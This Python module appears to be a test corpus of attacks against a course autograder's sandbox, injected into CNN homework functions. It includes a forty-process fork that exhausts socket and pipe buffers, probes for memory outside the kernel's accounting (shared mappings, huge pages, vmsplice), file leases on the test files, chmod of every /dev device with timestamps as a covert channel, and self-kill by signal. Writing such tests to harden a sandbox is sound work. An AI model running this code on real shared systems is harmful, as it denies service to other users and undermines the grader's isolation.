"""Attacks by way of the kernel: memory that no process holds, files held up, times as a channel.

A cell tries each way and prints REACHED where it led anywhere.
"""

from solutions.corpora.attacks import Attack

FILL = """
import os, socket, time
def filled(make):
    kept = []
    for _ in range(100):
        try:
            kept.append(make())
        except OSError:
            break
    return kept
def pair():
    left, right = socket.socketpair()
    left.setblocking(False)
    try:
        while True: left.send(b"x" * 65536)
    except OSError:
        return left, right
def pipe():
    reader, writer = os.pipe()
    os.set_blocking(writer, False)
    try:
        while True: os.write(writer, b"x" * 65536)
    except OSError:
        return reader, writer
def in_many(make):
    for _ in range(40):
        if os.fork() == 0:
            break
    kept = filled(make)
    time.sleep(60)
    return kept
"""

BESIDE_THE_COUNT = """
import ctypes, fcntl, mmap, os, socket
libc = ctypes.CDLL(None, use_errno=True)
def attempt(name, act):
    try:
        act()
    except (OSError, ValueError, AttributeError) as error:
        print("refused", name, type(error).__name__)
    else:
        print("REACHED", name)
def called(number, *arguments):
    if libc.syscall(number, *arguments) < 0:
        raise OSError(ctypes.get_errno(), "refused")
reader, writer = os.pipe()
left, right = socket.socketpair()
attempt("shared memory without a file", lambda: mmap.mmap(-1, 1 << 20))
attempt("a shared mapping of zeros", lambda: mmap.mmap(os.open("/dev/zero", os.O_RDWR), 1 << 20))
attempt("huge pages", lambda: mmap.mmap(-1, 2 << 20, flags=0x40022))
attempt("memory with a descriptor", lambda: os.memfd_create("x"))
attempt("a larger pipe", lambda: fcntl.fcntl(writer, 1031, 1 << 20))
attempt("a larger buffer", lambda: left.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24))
attempt("a descriptor on its way", lambda: socket.send_fds(left, [b"x"], [0]))
attempt("pages in a pipe", lambda: called(278, writer, 0, 0, 0))
attempt("a pipe into a pipe", lambda: called(276, reader, writer, 1, 0))
"""

HOLDING_UP = """
import ctypes, fcntl, os
def attempt(name, act):
    try:
        act()
    except (OSError, AttributeError) as error:
        print("refused", name, type(error).__name__)
    else:
        print("REACHED", name)
libc = ctypes.CDLL(None, use_errno=True)
def called(number, *arguments):
    if libc.syscall(number, *arguments) < 0:
        raise OSError(ctypes.get_errno(), "refused")
for path in ("/course/public_tests.py", np.__file__, os.__file__):
    attempt(f"lease {path}", lambda: fcntl.fcntl(os.open(path, os.O_RDONLY), 1024, fcntl.F_WRLCK))
    attempt(f"notes {path}", lambda: fcntl.fcntl(os.open(os.path.dirname(path), 0), 1026, 1))
    attempt(f"times {path}", lambda: os.utime(path))
    attempt(f"mode {path}", lambda: os.chmod(path, 0o777))
for name in os.listdir("/dev"):
    if not os.path.isdir(f"/dev/{name}"):
        attempt(f"times /dev/{name}", lambda: os.utime(f"/dev/{name}"))
        attempt(f"mode /dev/{name}", lambda: os.chmod(f"/dev/{name}", 0o600))
attempt("inotify", lambda: called(294, 0))
"""

ATTACKS = (
    Attack(
        "buffers",
        "keep memory in the buffers of sockets and pipes, in forty processes",
        before=(FILL,),
        functions={
            "zero_pad": "def zero_pad(X, pad):\n    in_many(pair)\n    return X",
            "pool_forward": "def pool_forward(A, h, mode):\n    in_many(pipe)\n    return A",
        },
        limits={"call_cpu": 2.0, "group_cpu": 4.0, "total_memory_bytes": 128 << 20},
    ),
    Attack(
        "beside_the_count",
        "take memory that no process holds: shared mappings, huge pages, pages pinned in pipes",
        before=(BESIDE_THE_COUNT,),
    ),
    Attack(
        "holding_up",
        "hold up other submissions by leases, and tell them something by time stamps and modes",
        before=(HOLDING_UP,),
    ),
    Attack(
        "kills_itself",
        "end one's own process by the signals that an administrator would send, to be run again",
        before=("import os, signal\ndef end(number): os.kill(os.getpid(), number)",),
        functions={
            "zero_pad": "def zero_pad(X, pad):\n    end(signal.SIGKILL)",
            "pool_forward": "def pool_forward(A, h, mode):\n    end(signal.SIGTERM)",
            "distribute_value": "def distribute_value(dz, s):\n    end(signal.SIGHUP)",
        },
    ),
)
